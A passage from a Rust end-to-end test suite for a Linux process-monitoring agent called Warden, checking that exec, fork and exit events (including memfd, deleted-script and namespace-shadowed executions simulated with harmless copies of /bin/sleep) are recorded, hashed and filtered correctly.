        let mut p = Proc::spawn(Command::new(&exe).args(["quick", &i.to_string(), "a b"]));
        assert!(p.wait().success());
        pids.push(u64::from(p.pid()));
    }
    let events = agent.wait_for("10 quick execs and exits", |ev| {
        pids.iter().all(|&pid| {
            has(ev, "exec", |e| {
                pid_of(e) == pid && e["process"]["executable"] == exe_s.as_str()
            }) && has(ev, "exit", |e| pid_of(e) == pid)
        })
    });
    let me = u64::from(std::process::id());
    for (i, &pid) in pids.iter().enumerate() {
        let exec = the(&events, "exec", "a quick process", |e| {
            pid_of(e) == pid && e["process"]["executable"] == exe_s.as_str()
        });
        let p = &exec["process"];
        let i = i.to_string();
        assert_eq!(strings(&p["args"]), [exe_s.as_str(), "quick", &i, "a b"]);
        assert_eq!(p["args_count"], 4);
        assert_eq!(p["hash"]["sha256"], digest.as_str(), "{exec}");
        assert_eq!(p["parent"]["pid"], me);
        assert_eq!(exec["warden"]["source"], source);
        check_entity_form(entity_of(exec), pid);
        let exit = the(&events, "exit", "a quick process", |e| pid_of(e) == pid);
        assert_eq!(entity_of(exit), entity_of(exec));
        assert_eq!(exit["process"]["exit_code"], 0);
    }
    // Ten execs of one file: described once; with eBPF the other nine are found by the version
    // the kernel reported, without opening the file or /proc (audit reports no version).
    let by_version = || {
        agent.status()["caches"]["executables/hits_by_kernel_version"]
            .as_u64()
            .expect("the status counts cache hits")
    };
    if source == "ebpf" {
        poll("nine hits by the kernel's version", || {
            (by_version() >= 9).then_some(())
        });
    } else {
        assert_eq!(by_version(), 0);
    }
    {
        // A failed exec names the program asked for (audit's too: not the image of the
        // process that asked, which its record's exe= is), its argv and the errno.
        let missing = exe.with_file_name("warden-e2e-missing");
        let missing_s = s(&missing);
        let err = Command::new(&missing).arg("never ran").spawn().unwrap_err();
        assert_eq!(err.raw_os_error(), Some(nix::errno::Errno::ENOENT as i32));
        let events = agent.wait_for("the failed exec", |ev| {
            has(ev, "exec", |e| {
                e["process"]["executable"] == missing_s.as_str()
            })
        });
        let failed = the(&events, "exec", "the failed exec", |e| {
            e["process"]["executable"] == missing_s.as_str()
        });
        assert_eq!(failed["event"]["outcome"], "failure", "{failed}");
        if source == "ebpf" {
            // Read from the caller's memory; audit writes no EXECVE record for an exec that
            // found no file.
            assert_eq!(
                strings(&failed["process"]["args"]),
                [missing_s.as_str(), "never ran"]
            );
        }
        assert!(failed["process"]["hash"].is_null(), "nothing ran: {failed}");
        assert_eq!(
            failed["warden"]["syscall_exit"],
            -(nix::errno::Errno::ENOENT as i32),
            "{failed}"
        );
        assert_eq!(failed["process"]["parent"]["pid"], me, "{failed}");
    }
    agent.stop();
    kernel.check();
}

/// A payload run from memory (a memfd, the usual fileless start) and one deleted as soon as it
/// ran: both gone, with their processes, well before a batch of records is read. Their execs
/// name the image as `/proc/PID/exe` does and carry the sha256 of what ran: the eBPF reader
/// is woken for such execs and holds their images open from their records. With audit's
/// execs, the memfd is named the same way and hashed while its process lives.
#[test]
fn images_gone_with_their_processes_are_still_hashed() {
    images_gone_with_their_processes("images_gone_with_their_processes_are_still_hashed", "ebpf");
}

#[test]
fn images_gone_with_their_processes_are_still_hashed_from_audit() {
    images_gone_with_their_processes(
        "images_gone_with_their_processes_are_still_hashed_from_audit",
        "audit",
    );
}

fn images_gone_with_their_processes(test: &str, source: &str) {
    let Some((_serial, kernel)) = begin(test) else {
        return;
    };
    // Before the agent: sha256sum's search of PATH fails execs, which name this (large,
    // unoptimized) test binary, and a debug agent takes a while to hash it.
    let digest = sha256(Path::new("/bin/sleep"));
    let mut agent = Agent::start(&process_source(source));
    // The pipeline's first exec loads the package index: done before the payloads run.
    let mut warm_up = Proc::spawn(&mut Command::new("/bin/true"));
    warm_up.wait();
    agent.wait_for("a first exec", |ev| {
        has(ev, "exec", |e| pid_of(e) == u64::from(warm_up.pid()))
    });
    // Audit's execs are enriched from /proc while the process lives: it lives a while.
    let lifetime = if source == "ebpf" { "0.005" } else { "0.5" };
    let run = |path: &str| {
        let mut p = Proc::spawn(Command::new(path).arg(lifetime));
        assert!(p.wait().success());
        u64::from(p.pid())
    };

    // SAFETY: a NUL-terminated name; flags 0: inherited by the child, which runs it.
    let fd = unsafe { libc::memfd_create(c"warden-payload".as_ptr(), 0) };
    assert!(fd >= 0, "memfd_create: {}", std::io::Error::last_os_error());
    // SAFETY: a new fd we own.
    let memfd = unsafe { <std::fs::File as std::os::fd::FromRawFd>::from_raw_fd(fd) };
    std::io::Write::write_all(&mut &memfd, &std::fs::read("/bin/sleep").unwrap()).unwrap();
    let in_memory = run(&format!("/proc/self/fd/{fd}"));
    drop(memfd);
    let mut pids = vec![(in_memory, "/memfd:warden-payload (deleted)".to_string())];

    if source == "ebpf" {
        let dir = tempfile::tempdir().unwrap();
        let payload = std::fs::canonicalize(dir.path()).unwrap().join("payload");
        std::fs::copy("/bin/sleep", &payload).unwrap();
        let deleted = run(&s(&payload));
        std::fs::remove_file(&payload).unwrap();
        pids.push((deleted, s(&payload)));
    }
    let events = agent.wait_for("the payloads' execs and exits", |ev| {
        pids.iter().all(|(pid, _)| {
            has(ev, "exec", |e| pid_of(e) == *pid) && has(ev, "exit", |e| pid_of(e) == *pid)
        })
    });
    for (pid, executable) in &pids {
        let exec = the(&events, "exec", executable, |e| pid_of(e) == *pid);
        let p = &exec["process"];
        assert_eq!(p["executable"], executable.as_str(), "{exec}");
        assert_eq!(p["hash"]["sha256"], digest.as_str(), "{exec}");
        assert_eq!(strings(&p["args"])[1..], [lifetime]);
    }
    if source == "ebpf" {
        poll("the held images counted", || {
            (agent.status()["caches"]["executables/held"].as_u64() >= Some(2)).then_some(())
        });
    }
    agent.stop();
    kernel.check();
}

/// A dropper's script — written, run by its `#!` line, deleted — is recorded as its
/// interpreter's exec, as the kernel runs it, with the script itself: its path and the sha256 of
/// what ran, though the file is gone before the pipeline sees the exec (eBPF: held from the
/// exec). Its exec's path is the script's (what `--path` finds).
#[test]
fn a_script_run_by_its_interpreter_is_recorded_and_hashed() {
    script_run_by_its_interpreter(
        "a_script_run_by_its_interpreter_is_recorded_and_hashed",
        "ebpf",
    );
}

/// The same with audit's execs, which name the script in their first PATH record: described
/// from its path while it is that file (here, while the script runs).
#[test]
fn a_script_run_by_its_interpreter_is_recorded_and_hashed_from_audit() {
    script_run_by_its_interpreter(
        "a_script_run_by_its_interpreter_is_recorded_and_hashed_from_audit",
        "audit",
    );
}

fn script_run_by_its_interpreter(test: &str, source: &str) {
    let Some((_serial, kernel)) = begin(test) else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let script = std::fs::canonicalize(dir.path()).unwrap().join("stage2");
    // It lives a while: long enough for the reader's hold (eBPF) and, audit's execs being
    // enriched while the process lives, for the pipeline's look; gone before the pipeline
    // looks at an eBPF exec (50 ms or more after it).
    let lifetime = if source == "ebpf" { "0.02" } else { "0.5" };
    let content = format!(
        "#!/bin/sh\n# {:?}\nsleep {lifetime}\nexit 3\n",
        std::time::SystemTime::now()
    );
    std::fs::write(&script, &content).unwrap();
    std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    // Before the agent: sha256sum's search of PATH fails execs, which name this (large,
    // unoptimized) test binary, and a debug agent takes a while to hash it.
    let digest = sha256(&script);
    let mut agent = Agent::start(&process_source(source));
    let mut warm_up = Proc::spawn(&mut Command::new("/bin/true"));
    warm_up.wait();
    agent.wait_for("a first exec", |ev| {
        has(ev, "exec", |e| pid_of(e) == u64::from(warm_up.pid()))
    });
    let mut run = Proc::spawn(Command::new(&script).arg("an argument"));
    assert_eq!(run.wait().code(), Some(3));
    std::fs::remove_file(&script).unwrap();
    let pid = u64::from(run.pid());
    let events = agent.wait_for("the script's exec", |ev| {
        has(ev, "exec", |e| pid_of(e) == pid)
    });
    let exec = the(&events, "exec", "the script's exec", |e| pid_of(e) == pid);
    let sh = std::fs::canonicalize("/bin/sh").unwrap();
    assert_eq!(exec["process"]["executable"], s(&sh), "{exec}");
    assert_eq!(
        strings(&exec["process"]["args"])[1..],
        [s(&script), "an argument".to_string()],
        "the interpreter's arguments, as the kernel made them"
    );
    let seen = &exec["warden"]["script"];
    assert_eq!(seen["path"], s(&script), "{exec}");
    assert_eq!(seen["hash"]["sha256"], digest.as_str(), "{exec}");
    assert_eq!(seen["size"], content.len(), "{exec}");
    assert!(seen["package"].is_null(), "{exec}");
    // A binary's exec names no script.
    let warm_up = the(&events, "exec", "the warm-up", |e| {
        pid_of(e) == u64::from(warm_up.pid())
    });
    assert!(warm_up["warden"]["script"].is_null(), "{warm_up}");
    let found = agent.events(&["--path", &s(&script), "--class", "exec"]);
    assert_eq!(found.len(), 1, "{found:?}");
    if source == "ebpf" {
        poll("the script held", || {
            (agent.status()["caches"]["executables/scripts_held"].as_u64() >= Some(1)).then_some(())
        });
    }
    agent.stop();
    kernel.check();
}

/// A process in a mount namespace that puts its own file at a packaged path (a container's
/// `/usr/bin/sleep`) is recorded with that file's sha256 and no package: not as the host's
/// coreutils, whose digest check would call it modified. The host's own sleep keeps both.
#[test]
fn another_namespaces_file_at_a_packaged_path_is_not_the_hosts_package() {
    let Some((_serial, kernel)) =
        begin("another_namespaces_file_at_a_packaged_path_is_not_the_hosts_package")
    else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let shadow = std::fs::canonicalize(dir.path()).unwrap().join("sleep");
    let mut image = std::fs::read("/usr/bin/sleep").unwrap();
    image.extend_from_slice(b"a container's sleep");
    std::fs::write(&shadow, &image).unwrap();
    std::fs::set_permissions(&shadow, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let digest = sha256(&shadow);
    let host_digest = sha256(Path::new("/usr/bin/sleep"));
    let mut agent = Agent::start("");
    let script = format!(
        "mount --bind {} /usr/bin/sleep && exec /usr/bin/sleep 0.2",
        s(&shadow)
    );
    let mut shadowed = Proc::spawn(Command::new("unshare").args([
        "--mount",
        "--propagation",
        "private",
        "sh",
        "-c",
        &script,
    ]));
    let mut host = Proc::spawn(Command::new("/usr/bin/sleep").arg("0.2"));
    assert!(shadowed.wait().success() && host.wait().success());
    let pids = [u64::from(shadowed.pid()), u64::from(host.pid())];
    let is_sleep =
        |e: &Value, pid: u64| pid_of(e) == pid && e["process"]["executable"] == "/usr/bin/sleep";
    let events = agent.wait_for("both sleeps", |ev| {
        pids.iter()
            .all(|&pid| has(ev, "exec", |e| is_sleep(e, pid)))
    });
    let other = the(&events, "exec", "the namespace's sleep", |e| {
        is_sleep(e, pids[0])
    });
    assert_eq!(
        other["process"]["hash"]["sha256"],
        digest.as_str(),
        "{other}"
    );
    let described = &other["warden"]["executable"];
    assert!(
        described["package"].is_null() && described["package_verified"].is_null(),
        "{other}"
    );
    let own = the(&events, "exec", "the host's sleep", |e| {
        is_sleep(e, pids[1])
    });
    assert_eq!(
        own["process"]["hash"]["sha256"],
        host_digest.as_str(),
        "{own}"
    );
    assert_eq!(own["warden"]["executable"]["package"], "coreutils", "{own}");
    assert_eq!(
        own["warden"]["executable"]["package_verified"], true,
        "{own}"
    );
    agent.stop();
    kernel.check();
}

/// With `events.forks_and_exits = false` only execs are recorded, and they name the same
/// parents: the table still follows the forks and exits it no longer records.
#[test]
fn without_forks_and_exits_execs_keep_their_parents() {
    let test = "without_forks_and_exits_execs_keep_their_parents";
    let Some((_serial, kernel)) = begin(test) else {
        return;
    };
    let mut agent = Agent::start(&format!(
        "{}[events]\nforks_and_exits = false\n",
        process_source("ebpf")
    ));
    let (_work, exe) = true_copy("warden-e2e-execonly");
    let exe_s = s(&exe);
    // A shell that forks twice to run the copy, then execs it itself.
    let script = format!("{exe_s} one; {exe_s} two; exec {exe_s} last");
    let mut shell = Proc::spawn(Command::new("/bin/sh").args(["-c", &script]));
    let shell_pid = u64::from(shell.pid());
    assert!(shell.wait().success());
    // Every record of those processes is older than the marker's exec: once the marker is
    // stored, any fork or exit event of theirs would be too.
    let mut marker = Proc::spawn(Command::new(&exe).arg("marker"));
    let marker_pid = u64::from(marker.pid());
    assert!(marker.wait().success());
    let events = agent.wait_for("the execs and the marker", |ev| {
        has(ev, "exec", |e| pid_of(e) == marker_pid)
            && ["one", "two"].iter().all(|arg| {
                has(ev, "exec", |e| {
                    strings(&e["process"]["args"]).contains(&arg.to_string())
                })
            })
    });
    let shell_exec = the(&events, "exec", "the shell's exec", |e| {
        pid_of(e) == shell_pid && e["process"]["executable"] != exe_s.as_str()
    });
    for arg in ["one", "two"] {
        let child = the(&events, "exec", "a child of the shell", |e| {
            strings(&e["process"]["args"]).contains(&arg.to_string())
        });
        assert_eq!(child["process"]["parent"]["pid"], shell_pid, "{child}");
        assert_eq!(
            child["process"]["parent"]["entity_id"], shell_exec["process"]["entity_id"],
            "{child}"
        );
    }
    let last = the(&events, "exec", "the shell's own exec of the copy", |e| {
        pid_of(e) == shell_pid && e["process"]["executable"] == exe_s.as_str()
    });
    assert_eq!(
        entity_of(last),
        entity_of(shell_exec),
        "one process, two images"
    );
    let forks_or_exits: Vec<&Value> = events
        .iter()
        .filter(|e| matches!(action(e), "fork" | "exit"))
        .collect();
    assert!(forks_or_exits.is_empty(), "{forks_or_exits:#?}");
    agent.stop();
    kernel.check();
}

/// An argv longer than the eBPF program copies (16 KiB) is completed from /proc while the
/// process lives; one that is gone at once keeps the first 16 KiB and is counted as
/// incomplete (`ebpf/exec_incomplete`).
#[test]
fn argv_beyond_the_ebpf_window_is_completed_or_counted() {
    let Some((_serial, kernel)) = begin("argv_beyond_the_ebpf_window_is_completed_or_counted")
    else {
        return;
    };
    let mut agent = Agent::start(&process_source("ebpf"));
    let long: String = (0..40_000)
        .map(|i| char::from(b'a' + (i % 26) as u8))
        .collect();
    // Lives until told: /proc can complete it.
    let mut lives = Proc::spawn(
        Command::new("/bin/sh")
            .args(["-c", "read x", "lives"])
            .arg(&long)
            .stdin(Stdio::piped()),
    );
    let lives_pid = u64::from(lives.pid());
    // Gone at once: cannot be completed.
    let (_work, exe) = true_copy("warden-e2e-long");
    let mut gone = Proc::spawn(Command::new(&exe).arg(&long));
    assert!(gone.wait().success());
    let gone_pid = u64::from(gone.pid());
    let events = agent.wait_for("both long execs", |ev| {
        has(ev, "exec", |e| pid_of(e) == lives_pid) && has(ev, "exec", |e| pid_of(e) == gone_pid)
    });
    let complete = the(&events, "exec", "the living one", |e| {
        pid_of(e) == lives_pid
    });
    assert_eq!(
        strings(&complete["process"]["args"]),
        ["/bin/sh", "-c", "read x", "lives", long.as_str()]
    );
    let cut = the(&events, "exec", "the short-lived one", |e| {
        pid_of(e) == gone_pid
    });
    let args = strings(&cut["process"]["args"]);
    assert_eq!(args[0], s(&exe));
    assert!(
        long.starts_with(&args[1]) && args[1].len() < long.len(),
        "{}",
        args[1].len()
    );
    lives
        .child
        .stdin
        .take()
        .unwrap()
        .write_all(b"go\n")
        .unwrap();
    assert!(lives.wait().success());
    let lost = poll("the incomplete exec to be counted", || {
        let n = agent.status()["lost"]["ebpf/exec_incomplete"]
            .as_u64()
            .unwrap_or(0);
        (n >= 1).then_some(n)
    });
    assert_eq!(lost, 1, "only the short-lived one");
    agent.stop();
    kernel.check();
}

/// With Debian's auditd holding the daemon slot, the agent reads the multicast group, exec
/// events still arrive, and it leaves auditd's state alone.
#[test]
fn beside_auditd_the_agent_reads_multicast() {
    let test = "beside_auditd_the_agent_reads_multicast";
    if !can_run(test) {
        return;
    }
    let Some(auditd) = ["/usr/sbin/auditd", "/sbin/auditd"]
        .into_iter()
        .find(|p| Path::new(p).exists())
    else {
        eprintln!("skipping {test}: auditd is not installed");
        return;
    };
    let _serial = serial();
    if !no_other_warden(test) {
        return;
    }
    let kernel = Kernel::capture();
    if kernel.before.pid != "0" {
        eprintln!(
            "skipping {test}: the daemon slot is already held by pid {}",
            kernel.before.pid
        );
        return;
    }
    // auditd with a private config: no logs written, no plugins, no network; it loads no rules.
    let conf = tempfile::tempdir().expect("tempdir");
    std::fs::create_dir(conf.path().join("plugins.d")).unwrap();
    let conf_file = conf.path().join("auditd.conf");
    std::fs::write(
        &conf_file,
        format!(
            "local_events = yes\nwrite_logs = no\nlog_file = {dir}/audit.log\n\
             log_format = ENRICHED\nflush = NONE\nfreq = 50\nmax_log_file = 8\nnum_logs = 5\n\
             max_log_file_action = IGNORE\nspace_left = 75\nspace_left_action = IGNORE\n\
             admin_space_left = 50\nadmin_space_left_action = IGNORE\n\
             disk_full_action = IGNORE\ndisk_error_action = IGNORE\n\
             plugin_dir = {dir}/plugins.d\nq_depth = 2000\noverflow_action = IGNORE\n\
             end_of_event_timeout = 2\n",
            dir = conf.path().display()
        ),
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&conf_file, std::fs::Permissions::from_mode(0o640)).unwrap();
    let daemon_log = conf.path().join("auditd.err");
    let mut daemon = Proc::spawn(
        Command::new(auditd)
            .arg("-n")
            .arg("-c")
            .arg(conf.path())
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(std::fs::File::create(&daemon_log).unwrap()),
    );
    let daemon_pid = daemon.pid().to_string();
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        if audit_state().pid == daemon_pid {
            break;
        }
        let exited = daemon.child.try_wait().unwrap();
        if exited.is_some() || Instant::now() > deadline {
            drop(daemon);
            let log = std::fs::read_to_string(&daemon_log).unwrap_or_default();
            // auditd enables audit as it starts; put that back before skipping.
            let now = audit_state();
            if now.enabled != kernel.before.enabled && now.enabled != "2" {
                auditctl(&["-e", &kernel.before.enabled]);
            }
            eprintln!(
                "skipping {test}: auditd did not take the daemon slot ({}): {log}",
                exited.map_or("still starting".to_string(), |s| s.to_string())
            );
            kernel.check();
            return;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    let with_auditd = audit_state();

    let mut agent = Agent::start(&process_source("audit"));
    let status = agent.status();
    let audit = status["sources"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["name"] == "audit")
        .expect("an audit source in the status")
        .clone();
    assert_eq!(audit["active"], true, "{audit}");
    let detail = audit["detail"].as_str().unwrap();
    assert!(detail.contains("multicast"), "{detail}");
    assert!(detail.contains(&daemon_pid), "{detail}");

    let (_work, exe) = true_copy("warden-e2e-beside");
    let exe_s = s(&exe);
    let mut p = Proc::spawn(Command::new(&exe).args(["beside", "auditd"]));
    assert!(p.wait().success());
    let pid = u64::from(p.pid());
    let events = agent.wait_for("an exec event read from the multicast group", |ev| {
        has(ev, "exec", |e| pid_of(e) == pid)
    });
    let exec = the(&events, "exec", "the copy", |e| pid_of(e) == pid);
    assert_eq!(exec["process"]["executable"], exe_s.as_str());
    assert_eq!(
        strings(&exec["process"]["args"]),
        [&exe_s, "beside", "auditd"]
    );
    assert_eq!(exec["warden"]["source"], "audit");
    agent.stop();
    assert_eq!(
        audit_state(),
        with_auditd,
        "the agent did not leave auditd's audit state as it found it"
    );

    signal(daemon.pid(), Signal::SIGTERM);
    daemon.wait();
    poll("auditd to release the daemon slot", || {
        (audit_state().pid == "0").then_some(())
    });
    // auditd enables auditing at start and leaves it enabled at stop: its doing, not Warden's.
    let now = audit_state();
    if now.enabled != kernel.before.enabled && now.enabled != "2" {
        eprintln!(
            "{test}: auditd left audit enabled={}; setting it back to {}",
            now.enabled, kernel.before.enabled
        );
        auditctl(&["-e", &kernel.before.enabled]);
    }
    kernel.check();
}

/// `warden events` reduces the store by class, pid, executable glob, entity (with children),
/// time and user, and prints text lines with pid and executable.
#[test]
fn events_filters_select_the_right_rows() {
    let Some((_serial, kernel)) = begin("events_filters_select_the_right_rows") else {
        return;
    };
    let mut agent = Agent::start("");
    let (_work, exe) = true_copy("warden-e2e-filter");
    let exe_s = s(&exe);
    let script = "read line\n\"$0\" filter-a\n\"$0\" filter-b \"$line\"\nexit 4\n";
    let mut tree = Proc::spawn(
        Command::new("/bin/sh")
            .args(["-c", script])
            .arg(&exe)
            .stdin(Stdio::piped()),
    );
    let shell = tree.pid();
    let shell_entity = entity(shell, start_ticks(shell));
    tree.child.stdin.take().unwrap().write_all(b"go\n").unwrap();
    assert_eq!(tree.wait().code(), Some(4));
    let shell = u64::from(shell);
    agent.wait_for("the filter tree's events", |ev| {
        has(ev, "exit", |e| pid_of(e) == shell)
            && ev
                .iter()
                .filter(|e| action(e) == "exit" && e["process"]["executable"] == exe_s.as_str())
                .count()
                == 2
    });
    // Stopped, the store no longer changes: every query below sees the same events.
    agent.stop();
    let all = agent.events(&[]);
    let only = |pred: &dyn Fn(&Value) -> bool| -> Vec<Value> {
        all.iter().filter(|e| pred(e)).cloned().collect()
    };

    let execs = agent.events(&["--class", "exec"]);
    assert!(!execs.is_empty());
    assert_eq!(execs, only(&|e| action(e) == "exec"));
    assert_eq!(agent.events(&["--class", "ex"]), execs);
    let exits = agent.events(&["--class", "exit"]);
    assert!(exits.iter().any(|e| pid_of(e) == shell));
    assert_eq!(exits, only(&|e| action(e) == "exit"));
    let pc = agent.events(&["--class", "pc"]);
    assert_eq!(pc, only(&|e| matches!(action(e), "exec" | "fork" | "exit")));
    assert_eq!(agent.events(&["--class", "fork,exec,exit"]), pc);

    let by_pid = agent.events(&["--pid", &shell.to_string()]);
    let mut actions: Vec<&str> = by_pid.iter().map(action).collect();
    actions.sort();
    assert_eq!(actions, ["exec", "exit", "fork"], "{by_pid:?}");
    assert_eq!(by_pid, only(&|e| pid_of(e) == shell));

    let glob = format!("{}/warden-e2e-f?lter", s(exe.parent().unwrap()));
    let by_exe = agent.events(&["--exe", &glob]);
    let mut actions: Vec<&str> = by_exe.iter().map(action).collect();
    actions.sort();
    assert_eq!(actions, ["exec", "exec", "exit", "exit"], "{by_exe:?}");
    assert_eq!(
        by_exe,
        only(&|e| e["process"]["executable"] == exe_s.as_str())
    );
    assert_eq!(agent.events(&["--exe", "*/warden-e2e-filter"]), by_exe);
    let children: Vec<u64> = by_exe.iter().map(pid_of).collect();

    // The shell's identity: its own events (fork, exec, exit) and its two children's
    // (fork, exec, exit each).
    let by_entity = agent.events(&["--entity", &shell_entity]);
    assert_eq!(by_entity.len(), 9, "{by_entity:?}");
    assert_eq!(
        by_entity,
        only(&|e| entity_of(e) == shell_entity
            || e["process"]["parent"]["entity_id"] == shell_entity.as_str())
    );
    for child in &children {
        assert!(
            by_entity
                .iter()
                .any(|e| pid_of(e) == *child && action(e) == "exec"),
            "child {child} missing from --entity"
        );
    }

    assert_eq!(agent.events(&["--since", "1m"]), all);
    assert_eq!(agent.events(&["--since", "2000-01-01"]), all);
    assert!(agent.events(&["--until", "1m"]).is_empty());
    assert_eq!(
        agent.events(&["--limit", "3"]),
        all[all.len() - 3..].to_vec()
    );
    assert_eq!(
        agent.events(&["--user", "root"]),
        only(&|e| e["user"]["id"] == "0")
    );

    let child = children[0];
    let text = agent.events_output(&["--pid", &child.to_string(), "--class", "exec"], "text");
    assert_eq!(text.lines().count(), 1, "{text}");
    assert!(text.contains(&format!("pid={child} ")), "{text}");
    assert!(text.contains(&format!("exe={exe_s} ")), "{text}");
    assert!(text.contains(" exec "), "{text}");
    assert!(text.contains(&format!("parent={shell_entity}")), "{text}");

    let bad = agent.events_command(&["--class", "bogus"], "json");
    assert!(!bad.status.success());
    assert!(String::from_utf8_lossy(&bad.stderr).contains("unknown event class"));
    kernel.check();
}

/// After SIGTERM the store holds every event the agent counted, class by class, nothing was
/// dropped, and the kernel's audit state is as found (the guard's check).
#[test]
fn sigterm_keeps_every_reported_event() {
    let Some((_serial, kernel)) = begin("sigterm_keeps_every_reported_event") else {
        return;
    };
    let mut agent = Agent::start("");
    let (_work, exe) = true_copy("warden-e2e-count");
    let exe_s = s(&exe);
    let script = "i=0\nwhile [ $i -lt 50 ]; do \"$0\" $i; i=$((i+1)); done\n";
    let mut tree = Proc::spawn(Command::new("/bin/sh").args(["-c", script]).arg(&exe));
    assert!(tree.wait().success());
    let copies = |ev: &[Value]| {
        ev.iter()
            .filter(|e| action(e) == "exec" && e["process"]["executable"] == exe_s.as_str())
            .count()
    };
    let events = agent.wait_for("50 execs", |ev| copies(ev) >= 50);
    assert_eq!(copies(&events), 50, "one exec event per exec");
    agent.stop();

    let status = agent.status();
    assert_eq!(status["pid"], agent.pid());
    let counted: std::collections::BTreeMap<String, u64> = status["events"]
        .as_object()
        .unwrap()
        .iter()
        .map(|(k, v)| (k.clone(), v.as_u64().unwrap()))
        .collect();
    let total: u64 = counted.values().sum();
    let all = agent.events(&[]);
    let mut stored = std::collections::BTreeMap::<String, u64>::new();
    for e in &all {
        let class = e["event"]["dataset"]
            .as_str()
            .and_then(|d| d.strip_prefix("warden."))
            .unwrap_or("?");
        *stored.entry(class.to_string()).or_default() += 1;
    }
    // An event the store queue had no room for is counted, and reported as lost.
    let dropped = ["pipeline/store_queue_full", "store/write_failed"]
        .iter()
        .map(|k| status["lost"][k].as_u64().unwrap_or(0))
        .sum::<u64>();
    assert_eq!(
        all.len() as u64 + dropped,
        total,
        "stored + dropped vs counted"
    );
    if dropped == 0 {
        assert_eq!(
            stored, counted,
            "events stored vs counted by the agent, by class"
        );
    }
    assert!(
        agent
            .log()
            .contains(&format!("stopped after recording {total} events")),
        "{}",
        agent.log()
    );
    let lost = &status["lost"];
    if lost.as_object().unwrap().values().any(|n| n != 0) {
        eprintln!("sigterm_keeps_every_reported_event: the agent reported losses: {lost}");
    }
    let text = Command::new(warden())
        .arg("status")
        .arg("--data-dir")
        .arg(&agent.data)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&text.stdout);
    assert!(text.contains("NOT running"), "{text}");
    kernel.check();
}

/// A burst of short execs: the audit stream (one record set per exec) runs ahead of the
/// connector's deeper backlog (fork, exec and exit per process), yet every exec event must
/// still carry its process identity, the same as its exit's. (The pipeline holds an audit exec
/// until the connector has delivered the same process's exec, so its fork is in the table.)
#[test]
fn execs_under_load_keep_their_identity() {
    let Some((_serial, kernel)) = begin("execs_under_load_keep_their_identity") else {
        return;
    };
    let mut agent = Agent::start("");
    let (_work, exe) = true_copy("warden-e2e-load");
    let exe_s = s(&exe);
    const RUNS: usize = 1500;
    let script = format!("i=0\nwhile [ $i -lt {RUNS} ]; do \"$0\" $i; i=$((i+1)); done\n");
    let mut tree = Proc::spawn(Command::new("/bin/sh").args(["-c", &script]).arg(&exe));
    assert!(tree.wait().success());
    let of_copy = |ev: &[Value], act: &str| -> usize {
        ev.iter()
            .filter(|e| action(e) == act && e["process"]["executable"] == exe_s.as_str())
            .count()
    };
    let events = agent.wait_for("the burst's execs and exits", |ev| {
        of_copy(ev, "exec") >= RUNS && of_copy(ev, "exit") >= RUNS
    });
    agent.stop();
    let execs: Vec<&Value> = events
        .iter()
        .filter(|e| action(e) == "exec" && e["process"]["executable"] == exe_s.as_str())
        .collect();
    let keyless = execs.iter().filter(|e| entity_of(e).is_empty()).count();
    assert_eq!(
        keyless,
        0,
        "{keyless} of {} exec events have no entity id (losses: {}), e.g. {}",
        execs.len(),
        agent.status()["lost"],
        execs
            .iter()
            .find(|e| entity_of(e).is_empty())
            .map(|e| e.to_string())
            .unwrap_or_default()
    );
    for exec in execs {
        let pid = pid_of(exec);
        let exit = the(&events, "exit", "a burst process", |e| {
            pid_of(e) == pid && e["process"]["executable"] == exe_s.as_str()
        });
        assert_eq!(entity_of(exit), entity_of(exec), "{exec}");
    }
    kernel.check();
}

// ---------------------------------------------------------------------------------------------
// Network and file activity. The acting process is `examples/actor.rs`, built by `cargo test`
// beside this test binary: a real separate process with a known pid, needing no interpreter.

/// Runs `actor ROLE ARGS` with `env`; returns once it printed `WARDEN-CHILD {json}` (its work is
/// done). It then waits for its stdin to close, so its sockets stay open meanwhile.
/// The actor example beside this test binary.
fn actor() -> PathBuf {
    let exe = std::env::current_exe().expect("test binary");
    exe.parent()
        .and_then(Path::parent)
        .map(|dir| dir.join("examples/actor"))
        .filter(|p| p.exists())
        .expect("examples/actor is built by `cargo test` (run the workspace's tests)")
}

fn spawn_actor(args: &[&str], env: &[(&str, String)]) -> (Proc, Value) {
    let mut cmd = Command::new(actor());
    cmd.args(args).stdin(Stdio::piped()).stdout(Stdio::piped());
    for (k, v) in env {
        cmd.env(k, v);
    }
    let mut child = Proc::spawn(&mut cmd);
    let stdout = child.child.stdout.take().expect("actor stdout");
    let mut lines = BufReader::new(stdout).lines();
    let report = loop {
        let line = lines
            .next()
            .unwrap_or_else(|| panic!("actor {args:?} ended without reporting"))
            .expect("actor output");
        if let Some(json) = line.strip_prefix("WARDEN-CHILD ") {
            break serde_json::from_str(json).expect("actor report is JSON");
        }
    };
    (child, report)
}

/// Whether the agent's eBPF source says `part` runs, io_uring's operations with it; where it
/// cannot follow them (before Linux 6.17: the tracepoints took other arguments), says the test
/// is skipped and stops the agent.
fn follows_io_uring(test: &str, agent: &mut Agent, part: &str) -> bool {
    let detail = agent.source_detail("ebpf");
    let Some(at) = detail.find(part) else {
        panic!("{part:?} not running: {detail}");
    };
    if detail[at + part.len()..].starts_with(" and io_uring's operations") {
        return true;
    }
    assert!(kernel_below(6, 17), "io_uring not followed: {detail}");
    eprintln!("{test}: skipped, io_uring operations not followed here: {detail}");
    agent.stop();
    false
}

/// The running kernel is older than `major.minor`.
fn kernel_below(major: u32, minor: u32) -> bool {
    let release = std::fs::read_to_string("/proc/sys/kernel/osrelease").unwrap_or_default();
    let mut parts = release
        .split(|c: char| !c.is_ascii_digit())
        .map(|p| p.parse::<u32>().unwrap_or(0));
    (parts.next().unwrap_or(0), parts.next().unwrap_or(0)) < (major, minor)
}

/// Runs the actor to its end (a storm): its summary line.
fn spawn_actor_to_end(args: &[&str]) -> Value {
    let out = Command::new(actor())
        .args(args)
        .output()
        .expect("actor runs");
    let summary = String::from_utf8_lossy(&out.stdout);
    let report = serde_json::from_str(summary.trim())
